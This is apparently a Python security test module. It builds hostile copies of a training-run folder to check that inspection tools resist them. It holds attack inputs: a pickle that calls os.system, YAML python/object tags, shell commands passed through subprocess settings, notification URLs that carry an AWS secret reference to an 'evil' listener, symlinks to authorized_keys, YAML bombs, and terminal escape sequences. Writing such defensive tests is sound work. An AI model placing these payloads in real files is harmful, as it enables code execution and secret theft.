"""Folders from a stranger: what may be done to a copy of an honest run before somebody looks at it."""

from __future__ import annotations

import json
import os
import pickle
import shutil
import socket
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import yaml

SECRET = "canary-4711-of-the-environment"
PRIVATE = "canary-0815-of-a-private-file"
VARIABLE = "AWS_SECRET_ACCESS_KEY"
REFERENCE = f"${{oc.env:{VARIABLE}}}"
ESCAPES = "\x1b]0;owned\x07\x1b[2J\u202egnp.exe\u2066\x9b31m"


@dataclass
class Place:
    """Where a case is set up.

    Attributes:
        folder: The copy of the run.
        outside: A folder of whoever looks; nothing in it is to be opened.
        port: Where the stranger listens.
        name: Of the case.
    """

    folder: Path
    outside: Path
    port: int
    name: str

    @property
    def evil(self) -> str:
        return f"json://127.0.0.1:{self.port}/evil-{self.name}"

    @property
    def touch(self) -> str:
        return f"touch {self.outside / 'executed'}"

    def job(self, **changes: Any) -> None:
        path = self.folder / "job.yaml"
        content = yaml.safe_load(path.read_text())
        path.write_text(yaml.safe_dump({**content, **changes}))

    def record(self, file: str = "run.json", /, **changes: Any) -> None:
        path = self.folder / file
        content = json.loads(path.read_text()) if path.exists() else {}
        path.write_text(json.dumps({**content, **changes}))

    def write(self, name: str, content: str | bytes) -> None:
        path = self.gone(name)
        path.write_bytes(content if isinstance(content, bytes) else content.encode(errors="surrogatepass"))

    def gone(self, name: str) -> Path:
        path = self.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        shutil.rmtree(path) if path.is_dir() and not path.is_symlink() else path.unlink(missing_ok=True)
        return path

    def link(self, name: str, target: str = "private.txt") -> None:
        self.gone(name).symlink_to(self.outside / target)

    def pipe(self, name: str) -> None:
        os.mkfifo(self.gone(name))

    def hole(self, name: str, size: int = 1 << 40) -> None:
        with open(self.gone(name), "wb") as file:
            file.truncate(size)

    def show(self, *entries: dict[str, Any]) -> None:
        self.write("show/index.json", json.dumps(list(entries)))

    @property
    def best(self) -> Path:
        return next((self.folder / "checkpoints/best").glob("*.ckpt"))


class _Pickle:
    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (self.command,)


def outside(place: Path) -> Path:
    """What a person has beside the folder that was sent to him."""
    place.mkdir()
    for name in ("private.txt", "authorized_keys", "private.yaml"):
        (place / name).write_text(f"key: {PRIVATE}\n")
    (place / "private.json").write_text(json.dumps({"status": PRIVATE, "schema": "nimble_lightning.usage/1"}))
    (place / "inside").mkdir()
    for name in ("index.json", "run.json", "events.jsonl", "attempt-1.rank-0.json"):
        content = (
            [{"file": "private.txt", "kind": "text", "caption": PRIVATE}] if name == "index.json" else {}
        )
        (place / "inside" / name).write_text(
            json.dumps(content or {"message": PRIVATE, "run_id": "x"}) + "\n"
        )
    (place / "inside/private.txt").write_text(PRIVATE)
    (place / "inside/title.j2").write_text(PRIVATE)
    (place / "evil.py").write_text(
        f"from pathlib import Path\nPath({str(place / 'executed')!r}).touch()\n"
        "class Evil:\n    def pre_process(self): pass\n    def train(self, batch): pass\n"
    )
    return place


CASES: dict[str, Callable[[Place], object]] = {}


def case(act: Callable[[Place], object]) -> Callable[[Place], object]:
    CASES[act.__name__] = act
    return act


def cases(**acts: Callable[[Place], object]) -> None:
    CASES.update(acts)


def _urls(*urls: Any, **more: Any) -> dict[str, Any]:
    return {"callbacks": {"notification": {"urls": list(urls), **more}}}


cases(
    # Who is told, and what.
    address_with_a_variable=lambda p: p.job(**_urls(f"{p.evil}/{REFERENCE}")),
    address_itself=lambda p: p.job(**_urls(p.evil)),
    address_as_default=lambda p: p.job(**_urls("${oc.env:NOWHERE,'" + p.evil + "'}")),
    address_in_a_mapping=lambda p: p.job(**_urls({"url": f"{p.evil}/{REFERENCE}", "tags": ["all"]})),
    address_by_way_of_a_parameter=lambda p: p.job(
        params={"evil": f"{p.evil}/{REFERENCE}"}, **_urls("${params.evil}")
    ),
    address_is_a_secret=lambda p: p.job(**_urls(REFERENCE)),
    address_in_a_private_file=lambda p: p.job(**_urls(f"secret:{p.outside / 'private.txt'}")),
    address_in_a_file_of_its_own=lambda p: (
        p.write("mine.yml", f"urls:\n  - {p.evil}\n"),
        os.chmod(p.folder / "mine.yml", 0o600),
        p.job(**_urls(f"secret:{p.folder / 'mine.yml'}")),
    ),
    addresses_of_another_kind=lambda p: p.job(callbacks={"notification": {"urls": 7, "events": {"a": 3}}}),
    events_to_tell_of_another_kind=lambda p: p.job(
        **_urls({"url": REFERENCE, "tags": 7}, events={"a": [[1]]})
    ),
    templates_elsewhere=lambda p: p.job(**_urls(templates=str(p.outside / "inside"))),
    usage_reported_elsewhere=lambda p: p.job(
        callbacks={"usage_report": {"report_to": f"{p.evil}/{REFERENCE}".replace("json", "http")}}
    ),
    # What it says it has shown.
    picture_by_its_path=lambda p: p.show(
        {"file": str(p.outside / "private.txt"), "kind": "text"},
        {"file": "../../../outside/private.txt", "kind": "image"},
    ),
    picture_is_a_link=lambda p: (
        p.link("show/0.txt"),
        p.show({"file": "0.txt", "kind": "text", "caption": "x"}),
    ),
    pictures_are_elsewhere=lambda p: p.link("show", "inside"),
    index_is_a_link=lambda p: p.link("show/index.json", "inside/index.json"),
    index_is_a_pipe=lambda p: p.pipe("show/index.json"),
    index_of_another_kind=lambda p: p.write("show/index.json", '[{"file": 3, "kind": []}, 7, {"file": {}}]'),
    picture_is_a_pipe=lambda p: (p.pipe("show/0.txt"), p.show({"file": "0.txt", "kind": "text"})),
    table_too_deep=lambda p: (
        p.write("show/0.json", "[" * 100_000),
        p.show({"file": "0.json", "kind": "table"}),
    ),
    # What happened.
    outbox_is_elsewhere=lambda p: p.link("outbox", "inside"),
    events_are_a_link=lambda p: p.link("outbox/events.jsonl", "inside/events.jsonl"),
    delivered_is_a_link=lambda p: p.link("outbox/delivered.jsonl", "authorized_keys"),
    lock_is_a_link=lambda p: p.link("outbox/sender.lock", "authorized_keys"),
    events_are_a_pipe=lambda p: p.pipe("outbox/events.jsonl"),
    events_have_no_end=lambda p: p.hole("outbox/events.jsonl"),
    facts_of_another_kind=lambda p: p.write(
        "outbox/events.jsonl",
        '{"kind": "finished", "facts": [1], "id": "a", "time": "x"}\n'
        '{"kind": "finished", "facts": {"metrics": [3], "step": "x", "total_steps": {}}, "id": "b", '
        '"time": 1}\n'
        '{"kind": "failed", "facts": {"verdict": 3, "eta_seconds": "y"}, "id": ["c"], "time": NaN}\n',
    ),
    # Code that it names.
    trainer_is_a_function=lambda p: p.job(trainer="subprocess:getoutput", params={"cmd": p.touch}),
    trainer_is_a_process=lambda p: p.job(trainer="subprocess:Popen", params={"args": p.touch, "shell": True}),
    trainer_is_built_in=lambda p: p.job(trainer="os:system", params={"command": p.touch}),
    trainer_is_elsewhere=lambda p: p.job(trainer=f"{p.outside / 'evil.py'}:Evil"),
    trainer_comes_along=lambda p: (
        shutil.copy(p.outside / "evil.py", p.folder / "evil.py"),
        p.job(trainer=f"{p.folder / 'evil.py'}:Evil"),
    ),
    trainer_is_an_import_of_the_trainer=lambda p: p.job(trainer="x.py:Popen", params={"args": p.touch}),
    trainer_is_a_reference=lambda p: p.job(trainer=REFERENCE),
    data_are_a_process=lambda p: p.job(
        datamodule="subprocess:Popen", params={"args": p.touch, "shell": True}
    ),
    data_are_elsewhere=lambda p: p.job(datamodule=f"{p.outside / 'evil.py'}:Evil"),
    parameter_is_a_target=lambda p: p.job(params={"lr": {"_target_": "os.system", "command": p.touch}}),
    parameter_is_a_reference=lambda p: p.job(params={"lr": REFERENCE}),
    parameters_are_a_reference=lambda p: p.job(params="${oc.env:PATH}"),
    run_is_a_reference=lambda p: p.job(run_id=REFERENCE, name=REFERENCE),
    tags_of_python=lambda p: p.write(
        "job.yaml", f"run_id: x\ntrainer: !!python/object/apply:os.system ['{p.touch}']\n"
    ),
    settings_too_deep=lambda p: p.write("job.yaml", "run_id: x\nparams: " + "[" * 50_000),
    settings_that_multiply=lambda p: p.write("job.yaml", f"run_id: x\ntrainer: x\nparams:\n{_bomb(False)}"),
    settings_that_merge=lambda p: p.write("job.yaml", f"run_id: x\ntrainer: x\nparams:\n{_bomb(True)}"),
    settings_within_themselves=lambda p: p.write("job.yaml", "run_id: x\ntrainer: x\nparams: &a {x: *a}\n"),
    settings_are_a_link=lambda p: p.link("job.yaml", "private.yaml"),
    settings_are_a_pipe=lambda p: p.pipe("job.yaml"),
    settings_are_a_folder=lambda p: p.gone("job.yaml").mkdir(),
    settings_have_no_end=lambda p: p.hole("job.yaml"),
    settings_are_no_text=lambda p: p.write("job.yaml", os.urandom(10_000)),
    settings_are_a_list=lambda p: p.write("job.yaml", "[1, 2, 3]"),
    # Weights.
    best_is_elsewhere=lambda p: p.record(best_checkpoint=str(p.outside / "private.txt")),
    best_is_above=lambda p: p.record(best_checkpoint="../../outside/private.txt"),
    best_is_no_path=lambda p: p.record(best_checkpoint={"a": [1]}),
    best_is_a_link=lambda p: p.link(f"checkpoints/best/{p.best.name}", "private.txt"),
    checkpoints_are_elsewhere=lambda p: p.link("checkpoints", "inside"),
    manifest_is_a_pipe=lambda p: p.pipe(f"checkpoints/best/{p.best.name}.manifest.json"),
    manifest_is_a_link=lambda p: p.link(f"checkpoints/best/{p.best.name}.manifest.json", "private.json"),
    exports_are_elsewhere=lambda p: p.link("best", "inside"),
    # The record and what was logged.
    record_is_a_link=lambda p: p.link("run.json", "private.json"),
    record_is_a_pipe=lambda p: p.pipe("run.json"),
    record_has_no_end=lambda p: p.hole("run.json"),
    record_too_deep=lambda p: p.write("run.json", '{"metrics": ' + "[" * 100_000),
    record_of_another_kind=lambda p: p.record(
        metrics={"a": [1], "b": {"c": 1}},
        attempts=[3, {"start": "x", "first_step": [], "number": {}}, {}, {}],
        started="x",
        ended=[],
        verdict={"passed": {}, "criteria": [{"value": []}]},
        versions=7,
        status=["x"],
    ),
    record_beyond_all_numbers=lambda p: p.write(
        "run.json",
        '{"run_id": "x", "status": "finished", "started": -1e999, "ended": NaN, "metrics": {"a": NaN, '
        '"b": 1e999, "global_step": 1' + "0" * 400 + "}, "
        '"attempts": [{"start": 1e300, "end": 1' + "0" * 400 + "}, {}]}",
    ),
    metrics_are_a_link=lambda p: p.link("metrics.jsonl"),
    metrics_are_a_pipe=lambda p: p.pipe("metrics.jsonl"),
    metrics_have_no_end=lambda p: p.hole("metrics.jsonl"),
    metrics_of_another_kind=lambda p: p.write(
        "metrics.jsonl",
        '{"step": "x", "attempt": [1], "metrics": {"loss": 1}}\n{"step": {}, "metrics": {"loss": [1]}}\n'
        '{"step": 1e999, "metrics": {"loss": 1e308}}\n{"step": 1, "metrics": {"loss": -1e308}}\n'
        '{"step": NaN, "metrics": {"loss": 1' + "0" * 400 + "}}\n" + "[" * 100_000 + "\n",
    ),
    table_of_metrics_has_no_end=lambda p: (p.gone("metrics.jsonl"), p.hole("metrics.csv")),
    samples_of_a_gpu_are_a_pipe=lambda p: p.pipe("gpu.jsonl"),
    samples_of_a_gpu_have_no_end=lambda p: p.hole("gpu.jsonl"),
    samples_of_another_kind=lambda p: p.write(
        "gpu.jsonl",
        '{"time": 1, "devices": 7}\n{"time": 1e999, "devices": [3]}\n{"time": 2, "host": {"cpu": 1e999}}\n',
    ),
    account_is_a_link=lambda p: p.link("usage.json", "private.json"),
    account_is_a_pipe=lambda p: p.pipe("usage.json"),
    account_of_another_kind=lambda p: p.record(
        "usage.json",
        schema="nimble_lightning.usage/1",
        attempts=[],
        wall_seconds="x",
        cost=3,
        devices=7,
        time=[1],
    ),
    account_beyond_all_numbers=lambda p: p.write(
        "usage.json",
        '{"schema": "nimble_lightning.usage/1", "name": "'
        + "n" * 5_000_000
        + '", "attempts": 1, "wall_seconds": 1e999,'
        '"device_seconds": NaN, "steps": 1, "samples": 1, "tokens": 1, "energy_kwh": {"total": 1e999}, '
        '"co2e_kg": 1,'
        '"cost": {"amount": 1, "currency": []}, "flops": 1e999, "time": {"step": NaN, "data": 1e999}}',
    ),
    provenance_is_a_pipe=lambda p: p.pipe("provenance.json"),
    errors_are_elsewhere=lambda p: p.link("errors", "inside"),
    error_is_a_link=lambda p: p.link("errors/attempt-1.rank-0.json", "private.json"),
    error_of_another_kind=lambda p: (
        p.write("errors/attempt-1.rank-0.json", '{"time": "x", "message": [1], "traceback": {}, "step": []}'),
        p.write("errors/attempt-1.rank-1.json", '{"time": {}, "type": 3}'),
    ),
    error_without_end=lambda p: p.write(
        "errors/attempt-1.rank-0.json", json.dumps({"message": "x" * 10_000_000})
    ),
    # What a terminal or a page would obey.
    escapes_everywhere=lambda p: (
        p.record(message=ESCAPES, status=ESCAPES),
        p.record("usage.json", schema="nimble_lightning.usage/1", name=ESCAPES),
        p.write("errors/attempt-1.rank-0.json", json.dumps({"message": ESCAPES, "type": ESCAPES, "time": 1})),
        p.show({"error": ESCAPES, "caption": ESCAPES}),
        p.write(f"show/{ESCAPES.replace('/', '')}", ""),
        p.job(run_id=ESCAPES, trainer=ESCAPES, name=ESCAPES, **_urls(ESCAPES)),
    ),
    half_characters=lambda p: p.record(message="\udc80\ud800", status="\udfff"),
    # What is written in it.
    page_is_a_link=lambda p: p.link("report.html", "authorized_keys"),
    page_to_be_is_a_link=lambda p: [
        p.link(f".report.html.tmp-{pid}", "authorized_keys") for pid in range(os.getpid(), os.getpid() + 3000)
    ],
    member_is_elsewhere=lambda p: (p.gone("run.json"), p.link("7", "inside")),
    # What is signed.
    statement_is_a_pipe=lambda p: p.pipe("statement.json"),
    statement_is_a_link=lambda p: p.link("statement.json", "private.json"),
    statement_has_no_end=lambda p: p.hole("statement.json"),
    statement_too_deep=lambda p: p.write("statement.json", "[" * 100_000),
    stranger_has_no_end=lambda p: p.hole("show/stranger.bin"),
)


@case
def weights_are_a_program(p: Place) -> None:
    data = pickle.dumps({"state_dict": _Pickle(p.touch), "hyper_parameters": _Pickle(p.touch)})
    _committed(p, data)


@case
def weights_are_a_socket(p: Place) -> None:
    path = p.gone("checkpoints/best/best-x.ckpt")
    here = os.getcwd()
    os.chdir(path.parent)
    with socket.socket(socket.AF_UNIX) as made:
        made.bind(path.name)
    os.chdir(here)


def _committed(p: Place, data: bytes) -> None:
    """As a checkpoint whose manifest says so."""
    import hashlib
    from dataclasses import replace

    from nimble_lightning.checkpoint.manifest import FileRecord, Manifest

    path = p.best
    place = path.with_name(f"{path.name}.manifest.json")
    manifest = Manifest.parse(place.read_bytes())
    record = FileRecord(len(data), hashlib.sha256(data).hexdigest())
    path.unlink()
    path.write_bytes(data)
    place.write_bytes(replace(manifest, files={path.name: record}).dump())


def _bomb(merge: bool) -> str:
    """A few lines that stand for a milliard."""
    lines = ["  a: &a {x: 1}"] if merge else ["  a: &a [x, x, x, x, x, x, x, x, x]"]
    for before, name in zip("abcdefgh", "bcdefghi", strict=True):
        many = ", ".join([f"*{before}"] * 9)
        lines.append(f"  {name}: &{name} {{<<: [{many}]}}" if merge else f"  {name}: &{name} [{many}]")
    return "\n".join(lines) + "\n"
